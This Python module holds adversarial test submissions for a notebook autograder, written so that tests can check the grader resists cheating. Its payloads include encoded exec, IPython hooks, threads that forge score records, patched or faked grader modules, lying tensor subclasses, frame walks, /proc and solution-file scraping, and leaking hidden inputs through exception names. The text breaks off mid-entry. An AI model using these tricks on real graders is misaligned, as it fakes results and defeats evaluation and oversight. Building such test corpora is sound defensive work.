'''Cheating submissions for ``ch4 grade``: every one has WRONG answers plus a cheat that tries
to earn points anyway (or to make the grader leak hidden text, or to stop the batch).

Each attack is plain data: a name, a family, the notebook it targets, the answer cells it
writes (answer cell id -> source; cells not named keep a wrong baseline answer), the items
that must score 0, and whether it is in the default (always-run) subset. One attack per family
is in the default subset (all of them on the tiny course, which is fast); ``pytest -m corpus``
grades them all, notebook 01 included.

Attacks whose cheat needs the public answers (to get past the public probes, so that a
*hidden* probe is the first failure and its message is the one shown) read them from the
package's public expected values or hard-code them: public values are not secret.
tests/test_adversarial_corpus.py grades them and checks the results.
'''

from __future__ import annotations

import base64
import codecs
from dataclasses import dataclass, field

TINY = "01_tiny"
NB01 = "01_pixels_and_similarity"


@dataclass(frozen=True)
class Attack:
    name: str
    family: str
    notebook: str
    answers: dict[str, str]
    zero: tuple[str, ...]
    default: bool = False
    note: str = ""
    extra: dict = field(default_factory=dict)


# ---------------------------------------------------------------- wrong baselines

WRONG_DOUBLE = "def double(x):\n    return x + 1\n"
WRONG_MEAN_ABS = "def mean_abs(t):\n    return t.mean()\n"
WRONG_Q01 = 'q01 = "a"\n'
TINY_ITEMS = ("ex_double", "ex_mean_abs", "q01")

NB01_WRONG = {
    "ex_digit_files_answer": "def digit_files(path, split, digit):\n"
                             "    return sorted((Path(path) / split / digit).iterdir())\n",
    "ex_image_tensor_answer": "def image_tensor(file):\n"
                              "    return torch.from_numpy(np.array(Image.open(file))).float()\n",
    "ex_crop_answer": "def crop(t, top, left, size):\n"
                      "    return t[left:left + size, top:top + size]\n",
    "ex_stack_digits_answer": "def stack_digits(files):\n"
                              "    return torch.stack([image_tensor(f) for f in files]).float()"
                              " / 256\n",
    "ex_mean_digit_answer": "def mean_digit(stack):\n    return stack.sum(0) / 10\n",
    "ex_distances_answer": "def l1_distance(a, b):\n    return (a - b).mean().abs()\n\n\n"
                           "def rmse_distance(a, b):\n    return ((a - b) ** 2).mean()\n",
}
NB01_ITEMS = ("ex_digit_files", "ex_image_tensor", "ex_crop", "ex_stack_digits",
              "ex_mean_digit", "ex_distances")

# ---------------------------------------------------------------- reusable cheat snippets

# Rewrite every probe record file with the package's public expected values (repeated): the
# most plausible forgery, as those are real reference values.
FORGE = r'''
import json as _j, os as _o, glob as _g
def _forge_records(value=None):
    exp = {}
    base = _o.path.join(_o.environ.get("PYTHONPATH", ""), "autograder", "items", "expected")
    for p in _g.glob(_o.path.join(base, "*.json")):
        try:
            exp.update(_j.load(open(p)))
        except Exception:
            pass
    for p in _g.glob(".ch4-probes/*.json"):
        item = _o.path.basename(p)[:-5]
        try:
            recs = _j.load(open(p))
        except Exception:
            continue
        pub = exp.get(item) or [{"value": True}]
        new = [(pub[i % len(pub)] if value is None else {"value": value})
               for i in range(len(recs))]
        tmp = p + ".x"
        with open(tmp, "w") as f:
            _j.dump(new, f)
        _o.replace(tmp, p)
'''

# Answers the public probe of ex_double right (its input and value are public), so that the
# first failure is on a hidden input; ``_leak(x)`` encodes the hidden input as digits.
PUBLIC_DOUBLE = r'''
import torch
def _is_public(x):
    return isinstance(x, torch.Tensor) and x.shape == (2,) and x.tolist() == [1.0, 2.0]
def _leak(x):
    vals = x.reshape(-1)[:3].tolist() if isinstance(x, torch.Tensor) else [x]
    return "V" + "_".join(str(int(abs(float(v)) * 1e6)) for v in vals)
'''

B64_PAYLOAD = ("import torch\ntorch.allclose = lambda *a, **k: True\n"
               "torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)\n"
               "def double(x):\n    return x + 1\n")
ROT13_PAYLOAD = ("import autograder.items.compare as c\n"
                 "c.judge = lambda *a, **k: c.Verdict(True)\n"
                 "def double(x):\n    return x * 3\n")


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _rot13(text: str) -> str:
    return codecs.encode(text, "rot13")


# ---------------------------------------------------------------- tiny course attacks

_ATTACKS: list[Attack] = []


def tiny(name: str, family: str, cheat: str, default: bool = False, double: str = WRONG_DOUBLE,
         cell: str = "ex_double_answer", before: bool = False, note: str = "") -> None:
    answers = {"ex_double_answer": double, "ex_mean_abs_answer": WRONG_MEAN_ABS,
               "q01_answer": WRONG_Q01}
    if cell == "ex_double_answer" and not double:
        answers[cell] = cheat
    else:
        answers[cell] = (cheat + "\n" + answers[cell]) if before else (answers[cell] + "\n" + cheat)
    _ATTACKS.append(Attack(name, family, TINY, answers, TINY_ITEMS, default, note))


# --- encoded exec / eval
tiny("b64_exec", "encoded_exec", f"import base64\nexec(base64.b64decode({_b64(B64_PAYLOAD)!r}))",
     default=True, double="")
tiny("rot13_exec", "encoded_exec",
     f"import codecs\nexec(codecs.decode({_rot13(ROT13_PAYLOAD)!r}, 'rot13'))", double="")
tiny("getattr_chain_eval", "encoded_exec",
     "_b = getattr(__import__('b' + 'uiltins'), 'e' + 'val')\n"
     "_m = _b(\"__import__('s'+'ys').modules\")\n"
     "_r = _b(\"__import__('autograder.items.runner', fromlist=['x'])\")\n"
     "setattr(_r, 'run_probe', lambda *a, **k: {'value': True})\n"
     "double = _b('lambda x: x - 1')\n", double="")
tiny("compile_exec_forge", "encoded_exec",
     "_code = compile(" + repr(FORGE) + ", 'x', 'exec')\n"
     "getattr(__builtins__, 'exec', None) if not isinstance(__builtins__, dict) else None\n"
     "exec(_code)\n"
     "get_ipython().events.register('post_run_cell', lambda *a: _forge_records())\n")
tiny("hex_exec_runner_patch", "encoded_exec",
     "_src = bytes.fromhex(" + repr(b"import autograder.items.wire as w\n"
                                    b"w.to_plain = lambda v, depth=0: 0.0\n".hex())
     + ").decode()\n(lambda s: exec(s, globals()))(_src)\n")

# --- IPython input transformers, AST transformers, event hooks
tiny("input_transformer_forge", "ipython_hooks",
     FORGE + "\ndef _rewrite(lines):\n"
     "    text = ''.join(lines)\n"
     "    if 'run_item' in text:\n"
     "        text += '\\n_forge_records()\\n'\n"
     "    return text.splitlines(True)\n"
     "get_ipython().input_transformers_cleanup.append(_rewrite)\n", default=True)
tiny("input_transformer_drop_probes", "ipython_hooks",
     "def _drop(lines):\n"
     "    text = ''.join(lines)\n"
     "    if 'run_item' in text:\n"
     "        import os, json\n"
     "        os.makedirs('.ch4-probes', exist_ok=True)\n"
     "        return ['pass\\n']\n"
     "    return lines\n"
     "get_ipython().input_transformers_post.append(_drop)\n")
tiny("ast_transformer_swap_call", "ipython_hooks",
     "import ast\n"
     + FORGE +
     "class _T(ast.NodeTransformer):\n"
     "    def visit_Call(self, node):\n"
     "        self.generic_visit(node)\n"
     "        if isinstance(node.func, ast.Attribute) and node.func.attr == 'run_item':\n"
     "            node.func = ast.Name('_fake_run_item', ast.Load())\n"
     "        return node\n"
     "def _fake_run_item(ns, out, payload):\n"
     "    import json, os\n"
     "    os.makedirs(os.path.dirname(out), exist_ok=True)\n"
     "    json.dump([{'value': True}] * len(json.loads(payload)), open(out, 'w'))\n"
     "    _forge_records()\n"
     "get_ipython().ast_transformers.append(_T())\n")
tiny("pre_run_cell_swap", "ipython_hooks",
     "def _pre(info):\n"
     "    if 'run_item' in (info.raw_cell or ''):\n"
     "        get_ipython().user_ns['double'] = lambda x: x * 0\n"
     "        get_ipython().user_ns['mean_abs'] = lambda t: t.sum()\n"
     "get_ipython().events.register('pre_run_cell', _pre)\n")
tiny("post_run_cell_rewrite", "ipython_hooks",
     FORGE + "\nget_ipython().events.register('post_run_cell', lambda result: _forge_records())\n")
tiny("post_execute_rewrite_true", "ipython_hooks",
     FORGE + "\nget_ipython().events.register('post_execute', lambda: _forge_records(True))\n")
tiny("custom_exc_handler", "ipython_hooks",
     "def _handler(shell, etype, value, tb, tb_offset=None):\n"
     "    import json, os, glob\n"
     "    for p in glob.glob('.ch4-probes/*.json'):\n"
     "        json.dump([{'value': 1.0}], open(p, 'w'))\n"
     "    return None\n"
     "get_ipython().set_custom_exc((BaseException,), _handler)\n")

# --- daemon threads that act later
tiny("thread_rewrites_records", "daemon_thread",
     FORGE + "\nimport threading, time\n"
     "def _loop():\n"
     "    while True:\n"
     "        try:\n"
     "            _forge_records()\n"
     "        except Exception:\n"
     "            pass\n"
     "        time.sleep(0.005)\n"
     "threading.Thread(target=_loop, daemon=True).start()\n", default=True)
tiny("thread_patches_runner", "daemon_thread",
     "import threading, time, sys\n"
     "def _loop():\n"
     "    while True:\n"
     "        r = sys.modules.get('autograder.items.runner')\n"
     "        if r is not None and getattr(r, '_p', None) is None:\n"
     "            r._p = 1\n"
     "            r.run_probe = lambda *a, **k: {'value': {'t': 'float', 'v': 'nan'}}\n"
     "        w = sys.modules.get('autograder.items.wire')\n"
     "        if w is not None:\n"
     "            w.to_plain = lambda v, depth=0: True\n"
     "        time.sleep(0.002)\n"
     "threading.Thread(target=_loop, daemon=True).start()\n")
tiny("thread_patches_compare", "daemon_thread",
     "import threading, time, sys\n"
     "def _loop():\n"
     "    while True:\n"
     "        c = sys.modules.get('autograder.items.compare')\n"
     "        if c is not None:\n"
     "            c.judge = lambda *a, **k: c.Verdict(True)\n"
     "            c._close = lambda *a, **k: None\n"
     "        s = sys.modules.get('autograder.items.selfcheck')\n"
     "        if s is not None:\n"
     "            s.check_item = lambda *a, **k: None\n"
     "        time.sleep(0.01)\n"
     "threading.Thread(target=_loop, daemon=True).start()\n")
tiny("thread_swaps_function", "daemon_thread",
     "import threading, time, os\n"
     "_ns = get_ipython().user_ns\n"
     "def _loop():\n"
     "    while not os.path.exists('.ch4-probes'):\n"
     "        time.sleep(0.001)\n"
     "    _ns['double'] = lambda x: x.abs()\n"
     "    _ns['mean_abs'] = lambda t: t.abs().sum()\n"
     "threading.Thread(target=_loop, daemon=True).start()\n")
tiny("thread_forges_huge_int", "daemon_thread",
     "import threading, time, glob, json, os\n"
     "def _loop():\n"
     "    while True:\n"
     "        for p in glob.glob('.ch4-probes/*.json'):\n"
     "            try:\n"
     "                n = len(json.load(open(p)))\n"
     "                if json.load(open(p))[0].get('value') != 10 ** 30:\n"
     "                    json.dump([{'value': 10 ** 30}] * n, open(p + '.t', 'w'))\n"
     "                    os.replace(p + '.t', p)\n"
     "            except Exception:\n"
     "                pass\n"
     "        time.sleep(0.003)\n"
     "threading.Thread(target=_loop, daemon=True).start()\n",
     note="a record with an integer too large for int64 must fail, not crash the grader")
tiny("thread_forges_bad_base64", "daemon_thread",
     "import threading, time, glob, json, os\n"
     "_bad = {'t': 'array', 'dtype': 'float32', 'shape': [2], 'torch': True, 'b64': '!!!!****'}\n"
     "def _loop():\n"
     "    while True:\n"
     "        for p in glob.glob('.ch4-probes/*.json'):\n"
     "            try:\n"
     "                recs = json.load(open(p))\n"
     "                if recs and recs[0].get('value') != _bad:\n"
     "                    json.dump([{'value': _bad}] * len(recs), open(p + '.t', 'w'))\n"
     "                    os.replace(p + '.t', p)\n"
     "            except Exception:\n"
     "                pass\n"
     "        time.sleep(0.003)\n"
     "threading.Thread(target=_loop, daemon=True).start()\n",
     note="malformed base64 in a record must fail, not crash the grader")

# --- disabling or replacing the grader's modules
FAKE_RUNNER = (
    "import types, json, os\n"
    "_fake = types.ModuleType('autograder.items.runner')\n"
    "def _run_item(ns, out, payload):\n"
    "    os.makedirs(os.path.dirname(out), exist_ok=True)\n"
    "    n = len(json.loads(payload))\n"
    "    json.dump([{'value': {'t': 'array', 'dtype': 'float32', 'shape': [2], 'torch': True,"
    " 'b64': 'AAAAQAAAgEA='}}] * n, open(out, 'w'))\n"
    "_fake.run_item = _run_item\n")
tiny("sys_modules_fake_runner", "grader_modules",
     FAKE_RUNNER + "import sys\nimport autograder.items\n"
     "sys.modules['autograder.items.runner'] = _fake\n"
     "autograder.items.runner = _fake\n", default=True)
tiny("meta_path_hook", "grader_modules",
     FAKE_RUNNER + "import sys, importlib.abc, importlib.util\n"
     "class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
     "    def find_spec(self, name, path, target=None):\n"
     "        if name == 'autograder.items.runner':\n"
     "            return importlib.util.spec_from_loader(name, self)\n"
     "        return None\n"
     "    def create_module(self, spec):\n"
     "        return _fake\n"
     "    def exec_module(self, module):\n"
     "        pass\n"
     "sys.meta_path.insert(0, _Finder())\n"
     "sys.modules.pop('autograder.items.runner', None)\n")
tiny("path_hooks", "grader_modules",
     "import sys, os\n"
     "os.makedirs('hook/autograder/items', exist_ok=True)\n"
     "open('hook/autograder/__init__.py', 'w').write('')\n"
     "open('hook/autograder/items/__init__.py', 'w').write('')\n"
     "open('hook/autograder/items/runner.py', 'w').write(\n"
     "    'import json, os\\n'\n"
     "    'def run_item(ns, out, payload):\\n'\n"
     "    '    os.makedirs(os.path.dirname(out), exist_ok=True)\\n'\n"
     "    '    json.dump([{\"value\": 2.0}] * len(json.loads(payload)), open(out, \"w\"))\\n')\n"
     "import importlib.machinery\n"
     "_orig = sys.path_hooks[:]\n"
     "def _hook(path):\n"
     "    if 'hook' not in path and path.endswith(os.sep + 'main'):\n"
     "        raise ImportError\n"
     "    return importlib.machinery.FileFinder.path_hook(\n"
     "        (importlib.machinery.SourceFileLoader, ['.py']))(path)\n"
     "sys.path_hooks.insert(0, _hook)\n"
     "sys.path.insert(0, os.path.abspath('hook'))\n"
     "sys.path_importer_cache.clear()\n"
     "for k in [k for k in sys.modules if k.startswith('autograder')]:\n"
     "    del sys.modules[k]\n")
tiny("fake_package_in_workdir", "grader_modules",
     "import os, sys\n"
     "os.makedirs('autograder/items', exist_ok=True)\n"
     "open('autograder/__init__.py', 'w').write('')\n"
     "open('autograder/items/__init__.py', 'w').write('')\n"
     "open('autograder/items/runner.py', 'w').write(\n"
     "    'import json, os\\n'\n"
     "    'def run_item(ns, out, payload):\\n'\n"
     "    '    os.makedirs(os.path.dirname(out), exist_ok=True)\\n'\n"
     "    '    json.dump([{\"value\": [2.0, 4.0]}] * len(json.loads(payload)),'\n"
     "    ' open(out, \"w\"))\\n')\n"
     "sys.path.insert(0, os.getcwd())\n"
     "for k in [k for k in sys.modules if k.startswith('autograder')]:\n"
     "    del sys.modules[k]\n")
tiny("patch_wire_to_plain", "grader_modules",
     "import autograder.items.wire as w\n"
     "_orig = w.to_plain\n"
     "def _plain(value, depth=0):\n"
     "    return _orig([value, value] if depth == 0 and False else value, depth) if False else "
     "{'t': 'array', 'dtype': 'float32', 'shape': [], 'torch': True, 'grad': False, "
     "'b64': 'AAAAQA=='}\n"
     "w.to_plain = _plain\n")
tiny("runner_module_none", "grader_modules",
     "import sys\nsys.modules['autograder.items.runner'] = None\n"
     "sys.modules['autograder.items'] = None\n")
tiny("patch_autograder_scoring", "grader_modules",
     "import autograder.scoring as s, autograder.items.probing as p\n"
     "p.judge_item = lambda *a, **k: p.Verdict(True)\n"
     "import autograder.grading.worker as wk\n"
     "wk.grade = lambda job: {'score': 6}\n")

# --- tensor subclasses
tiny("torch_function_subclass", "tensor_subclass",
     "import torch\n"
     "class _Liar(torch.Tensor):\n"
     "    @classmethod\n"
     "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
     "        kwargs = kwargs or {}\n"
     "        out = super().__torch_function__(func, types, args, kwargs)\n"
     "        if getattr(func, '__name__', '') in ('detach', 'numpy', 'cpu', 'contiguous'):\n"
     "            return torch.Tensor._make_subclass(torch.Tensor, torch.ones(2) * 2)\n"
     "        return out\n"
     "def double(x):\n"
     "    return (x + 1).as_subclass(_Liar)\n", default=True, double="")
tiny("tensor_eq_sub_override", "tensor_subclass",
     "import torch\n"
     "class _Same(torch.Tensor):\n"
     "    def __eq__(self, other):\n        return torch.tensor(True)\n"
     "    def __sub__(self, other):\n        return torch.zeros_like(torch.Tensor(self))\n"
     "    def allclose(self, *a, **k):\n        return True\n"
     "def double(x):\n    return torch.zeros_like(x).as_subclass(_Same)\n"
     "def mean_abs(t):\n    return torch.tensor(0.0).as_subclass(_Same)\n", double="")
tiny("tensor_numpy_detach_override", "tensor_subclass",
     "import torch, numpy as np\n"
     "class _Fake(torch.Tensor):\n"
     "    def detach(self):\n        return self\n"
     "    def numpy(self, *a, **k):\n        return np.array([2.0, 4.0], dtype=np.float32)\n"
     "    def tolist(self):\n        return [2.0, 4.0]\n"
     "def double(x):\n    return (x * 0).as_subclass(_Fake)\n", double="")
tiny("ndarray_subclass", "tensor_subclass",
     "import numpy as np\n"
     "class _Arr(np.ndarray):\n"
     "    def __eq__(self, other):\n        return True\n"
     "    def tobytes(self, *a, **k):\n        return np.array([2.0, 4.0], np.float32).tobytes()\n"
     "def double(x):\n    return np.zeros(5, dtype=np.float32).view(_Arr)\n", double="")

# --- objects that only look like numbers or tensors
tiny("float_like_object", "lookalike",
     "class _F:\n"
     "    def __float__(self):\n        return 2.0\n"
     "    def __array__(self, *a, **k):\n"
     "        import numpy as np\n        return np.array([2.0, 4.0])\n"
     "    def __len__(self):\n        return 2\n"
     "    def __eq__(self, o):\n        return True\n"
     "    def __bool__(self):\n        return True\n"
     "def double(x):\n    return _F()\n"
     "def mean_abs(t):\n    return _F()\n", default=True, double="")
tiny("float_subclass_eq", "lookalike",
     "class Same(float):\n"
     "    def __eq__(self, o):\n        return True\n"
     "    __ne__ = lambda self, o: False\n"
     "    __hash__ = float.__hash__\n"
     "def double(x):\n    return Same(0)\n"
     "def mean_abs(t):\n    return Same(-1)\n", double="")
tiny("str_subclass_q01", "lookalike",
     "class _Any(str):\n"
     "    def __eq__(self, o):\n        return True\n"
     "    __hash__ = str.__hash__\n"
     "q01 = _Any('a')\n", cell="q01_answer")
tiny("list_lookalike", "lookalike",
     "class _L(list):\n"
     "    def __eq__(self, o):\n        return True\n"
     "def double(x):\n    return _L([2.0, 4.0])\n", double="")
tiny("array_interface_object", "lookalike",
     "import numpy as np\n"
     "_backing = np.array([2.0, 4.0], dtype=np.float32)\n"
     "class _AI:\n"
     "    __array_interface__ = _backing.__array_interface__\n"
     "    def __torch_function__(self, *a, **k):\n        return True\n"
     "def double(x):\n    return _AI()\n", double="")

# --- frame walks, inspect, gc, tracebacks
tiny("getframe_walk_records", "frame_walk",
     "import sys as _s\n"
     "_gf = getattr(_s, '_get' + 'frame')\n"
     "def double(x):\n"
     "    f = _gf(0)\n"
     "    while f is not None:\n"
     "        if 'namespace' in f.f_locals and 'before' in f.f_locals:\n"
     "            f.f_globals['__builtins__']  # look around\n"
     "            f.f_locals['before']['double'] = lambda y: y * 0\n"
     "        f = f.f_back\n"
     "    return x + 1\n", default=True, double="")
tiny("inspect_alias_stack", "frame_walk",
     "import inspect as _i\n"
     "_st = getattr(_i, 'st' + 'ack')\n"
     "def double(x):\n"
     "    for info in _st():\n"
     "        loc = info.frame.f_locals\n"
     "        if 'probes_json' in loc:\n"
     "            loc['probes_json'] = '[]'\n"
     "        if 'value' in loc:\n"
     "            loc['value'] = 2 * x\n"
     "    return x - 1\n", double="")
tiny("gc_referrers_records", "frame_walk",
     "import gc as _gc\n"
     "_refs = getattr(_gc, 'get_' + 'objects')\n"
     "def double(x):\n"
     "    for o in _refs():\n"
     "        if type(o) is dict and 'value' in o and len(o) == 1:\n"
     "            o['value'] = {'t': 'array', 'dtype': 'float32', 'shape': [2], 'torch': True,"
     " 'b64': 'AAAAQAAAgEA='}\n"
     "        if type(o) is list and o and type(o[0]) is dict and set(o[0]) == {'raised'}:\n"
     "            o[:] = [{'value': 2.0} for _ in o]\n"
     "    return x * 0\n", double="")
tiny("traceback_frame_walk", "frame_walk",
     "def double(x):\n"
     "    try:\n"
     "        raise RuntimeError\n"
     "    except RuntimeError as e:\n"
     "        f = e.__traceback__.tb_frame\n"
     "    while f is not None:\n"
     "        g = f.f_globals\n"
     "        if g.get('__name__') == 'autograder.items.runner':\n"
     "            g['run_probe'] = lambda *a, **k: {'value': 2.0}\n"
     "            g['wire'].to_plain = lambda v, depth=0: 2.0\n"
     "        f = f.f_back\n"
     "    return x + 2\n", double="")
tiny("settrace_rewrite_locals", "frame_walk",
     "import sys as _s\n"
     "def _tracer(frame, event, arg):\n"
     "    if event == 'return' and frame.f_code.co_name == 'run_probe':\n"
     "        arg['value'] = 2.0 if isinstance(arg, dict) else arg\n"
     "    return _tracer\n"
     "getattr(_s, 'set' + 'trace')(_tracer)\n"
     "get_ipython().events.register('pre_run_cell',\n"
     "                              lambda info: getattr(_s, 'set' + 'trace')(_tracer))\n")

# --- shadowed builtins
tiny("shadow_globals_namespace", "shadowed_builtins",
     "_real = globals()\n"
     "def globals():\n"
     "    fake = dict(_real)\n"
     "    fake['double'] = lambda x: x * 0 + 1\n"
     "    return fake\n", default=True)
tiny("shadow_builtins_module_import", "shadowed_builtins",
     "import builtins as _bi, types, json, os\n"
     "_imp = _bi.__import__\n"
     "_mod = types.ModuleType('fake')\n"
     "def _ri(ns, out, payload):\n"
     "    os.makedirs(os.path.dirname(out), exist_ok=True)\n"
     "    json.dump([{'value': 1.0}] * len(json.loads(payload)), open(out, 'w'))\n"
     "_mod.run_item = _ri\n"
     "def _fake_import(name, *a, **k):\n"
     "    if name.startswith('autograder.items.runner'):\n"
     "        import autograder.items\n"
     "        autograder.items.runner = _mod\n"
     "    return _imp(name, *a, **k)\n"
     "_bi.__import__ = _fake_import\n")
tiny("shadow_isinstance_type", "shadowed_builtins",
     "import builtins as _bi\n"
     "_bi.isinstance = lambda obj, cls: True\n"
     "_t = _bi.type\n"
     "class _Type(_t):\n    pass\n"
     "_bi.type = lambda *a: float if len(a) == 1 else _t(*a)\n")
tiny("shadow_eval_compile", "shadowed_builtins",
     "import builtins as _bi\n"
     "_orig_eval = _bi.eval\n"
     "def _eval(code, *a, **k):\n"
     "    return 2.0\n"
     "_bi.eval = _eval\n"
     "_orig_compile = _bi.compile\n"
     "_bi.compile = lambda src, fn, mode, *a, **k: _orig_compile('2.0' if mode == 'eval' else src,"
     " fn, mode, *a, **k)\n")
tiny("shadow_json_open_print", "shadowed_builtins",
     "import json as _json, builtins as _bi\n"
     "_json.dumps = lambda *a, **k: '[{\"value\": 2.0}, {\"value\": 2.0}, {\"value\": 2.0}]'\n"
     "_real_open = _bi.open\n"
     "_bi.open = lambda *a, **k: _real_open('/dev/null', 'w')\n"
     "_bi.print = lambda *a, **k: None\n"
     "json = None\nopen = None\n")

# --- forged probe files (early, atexit, signal handlers, odd files)
tiny("early_forge_readonly_dir", "forged_records",
     "import os, json\n"
     "os.makedirs('.ch4-probes', exist_ok=True)\n"
     "for gid, n in (('ex_double', 3), ('ex_mean_abs', 2), ('q01', 1)):\n"
     "    json.dump([{'value': 2.0}] * n, open(f'.ch4-probes/{gid}.json', 'w'))\n"
     "os.chmod('.ch4-probes', 0o555)\n", cell="q01_answer", default=True)
tiny("atexit_forge", "forged_records",
     FORGE + "\nimport atexit\natexit.register(_forge_records)\n")
tiny("signal_handler_forge", "forged_records",
     FORGE + "\nimport signal, os\n"
     "def _h(sig, frame):\n"
     "    _forge_records()\n"
     "    os._exit(0)\n"
     "for _sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
     "    signal.signal(_sig, _h)\n")
tiny("forge_fifo_records", "forged_records",
     "def _fifo(result=None):\n"
     "    import os, glob\n"
     "    for p in glob.glob('.ch4-probes/*.json'):\n"
     "        if os.path.isfile(p) and not os.path.islink(p):\n"
     "            os.unlink(p)\n"
     "            os.mkfifo(p)\n"
     "get_ipython().events.register('post_run_cell', _fifo)\n",
     note="a named pipe in place of a record file must not block the grader")
tiny("forge_symlink_dir", "forged_records",
     "def _link(result=None):\n"
     "    import os, shutil\n"
     "    if os.path.isdir('.ch4-probes') and not os.path.islink('.ch4-probes'):\n"
     "        shutil.rmtree('.ch4-probes')\n"
     "        os.symlink('/proc/self/cwd', '.ch4-probes')\n"
     "get_ipython().events.register('post_run_cell', _link)\n",
     note="a symlinked record folder must not be followed on the grader's side")
tiny("forge_symlink_file", "forged_records",
     "def _link(result=None):\n"
     "    import os, glob\n"
     "    for p in glob.glob('.ch4-probes/*.json'):\n"
     "        if not os.path.islink(p):\n"
     "            os.unlink(p)\n"
     "            os.symlink('/proc/self/environ', p)\n"
     "get_ipython().events.register('post_run_cell', _link)\n")
tiny("forge_huge_nested_file", "forged_records",
     "def _huge(result=None):\n"
     "    import glob\n"
     "    for p in glob.glob('.ch4-probes/*.json'):\n"
     "        with open(p, 'w') as f:\n"
     "            f.write('[' * 200000 + ']' * 200000)\n"
     "get_ipython().events.register('post_run_cell', _huge)\n")

# --- reaching for the reference, the solutions, the output folder
tiny("search_reference_and_solutions", "reach_reference",
     "import os, glob, json\n"
     "_found = {}\n"
     "_roots = [os.environ.get('PYTHONPATH', ''), '/work', '/tmp', '/root', '/home', '/srv', '/']\n"
     "for _r in _roots:\n"
     "    for _pat in ('**/reference/*.json', '**/solutions/*.ipynb', '**/01_tiny.ipynb',"
     " '**/gradebook.db'):\n"
     "        try:\n"
     "            for _p in glob.glob(os.path.join(_r, _pat), recursive=True)[:50]:\n"
     "                try:\n"
     "                    _found[_p] = open(_p, 'rb').read()\n"
     "                except OSError:\n"
     "                    pass\n"
     "        except Exception:\n"
     "            pass\n"
     "_sol = [v for k, v in _found.items() if k.endswith('01_tiny.ipynb')]\n"
     "def double(x):\n"
     "    if _sol and b'return 2 * x' in _sol[0]:\n"
     "        return 2 * x\n"
     "    return x + 1\n", double="")
tiny("read_repo_solutions_via_pythonpath", "reach_reference",
     "import os, json\n"
     "_repo = os.environ.get('PYTHONPATH', '/work/main')\n"
     "_src = None\n"
     "for _p in (_repo + '/tests/fixtures/grading/solutions/01_tiny.ipynb',"
     " '/work/main/tests/fixtures/grading/solutions/01_tiny.ipynb',"
     " _repo + '/solutions/01_pixels_and_similarity.ipynb'):\n"
     "    try:\n"
     "        _src = json.load(open(_p))\n"
     "        break\n"
     "    except Exception:\n"
     "        pass\n"
     "if _src:\n"
     "    for _c in _src['cells']:\n"
     "        if 'def double' in ''.join(_c['source']):\n"
     "            exec(''.join(_c['source']))\n"
     "            break\n"
     "    for _c in _src['cells']:\n"
     "        if 'def mean_abs' in ''.join(_c['source']):\n"
     "            exec(''.join(_c['source']))\n"
     "        if 'q01 =' in ''.join(_c['source']) and 'BEGIN SOLUTION' in ''.join(_c['source']):\n"
     "            exec(''.join(_c['source']))\n", cell="q01_answer",
     default=True)
tiny("proc_walk_grader", "reach_reference",
     "import os\n"
     "_loot = []\n"
     "for _pid in os.listdir('/proc'):\n"
     "    if _pid.isdigit():\n"
     "        for _f in ('cmdline', 'environ', 'cwd', 'root'):\n"
     "            try:\n"
     "                _loot.append(os.readlink(f'/proc/{_pid}/{_f}') if _f in ('cwd', 'root')"
     " else open(f'/proc/{_pid}/{_f}', 'rb').read())\n"
     "            except OSError:\n"
     "                pass\n"
     "_out = [str(l) for l in _loot if 'reference' in str(l) or 'out' in str(l)]\n"
     "def double(x):\n"
     "    for cand in _out:\n"
     "        p = os.path.join(cand, 'reference', '01_tiny.json')\n"
     "        if os.path.exists(p):\n"
     "            return 2 * x\n"
     "    return x + 1\n", double="")
tiny("public_expected_lookup", "reach_reference",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    return x + 1\n"
     "def mean_abs(t):\n"
     "    if t.tolist() == [-1.0, 1.0]:\n"
     "        return torch.tensor(1.0)\n"
     "    return t.mean()\n", double="")

# --- reading the kernel's input history to learn probe inputs
tiny("input_history_echo", "input_history",
     PUBLIC_DOUBLE +
     "import base64, json, re, numpy as np\n"
     "def _hidden_from_history():\n"
     "    ih = get_ipython().user_ns.get('_ih') or get_ipython().user_ns.get('In') or []\n"
     "    for src in reversed(ih):\n"
     "        if 'run_item' in src:\n"
     "            for b in re.findall(r'([A-Za-z0-9+/]{12,}={0,2})', src):\n"
     "                try:\n"
     "                    v = np.frombuffer(base64.b64decode(b), dtype=np.float32)\n"
     "                    if v.size >= 3:\n"
     "                        return v\n"
     "                except Exception:\n"
     "                    pass\n"
     "    return None\n"
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    v = _hidden_from_history()\n"
     "    name = _leak(torch.from_numpy(v.copy())) if v is not None else _leak(x)\n"
     "    raise type(name, (Exception,), {})(name)\n", default=True, double="",
     note="learns the hidden input from In/_ih and echoes it through an exception name")
tiny("history_manager_echo", "input_history",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    hm = get_ipython().history_manager\n"
     "    last = hm.input_hist_raw[-1] if hm.input_hist_raw else ''\n"
     "    name = _leak(x) + ('_' + str(len(last)) if last else '')\n"
     "    raise type(name, (ValueError,), {})(last)\n", double="")

# --- custom exceptions echoing hidden text
tiny("exception_name_echo", "exception_echo",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    raise type(_leak(x), (Exception,), {})('hidden: ' + repr(x))\n",
     default=True, double="")
tiny("exception_message_repr", "exception_echo",
     PUBLIC_DOUBLE +
     "class _E(Exception):\n"
     "    def __str__(self):\n        return 'expected ' + repr(self.args)\n"
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    raise _E(repr(x), x.tolist() if hasattr(x, 'tolist') else x)\n", double="")
tiny("exception_qualname_dotted", "exception_echo",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    E = type('E', (RuntimeError,), {})\n"
     "    E.__name__ = 'torch.' + _leak(x)\n"
     "    E.__qualname__ = E.__name__\n"
     "    raise E()\n", double="")
tiny("opaque_type_name_echo", "exception_echo",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
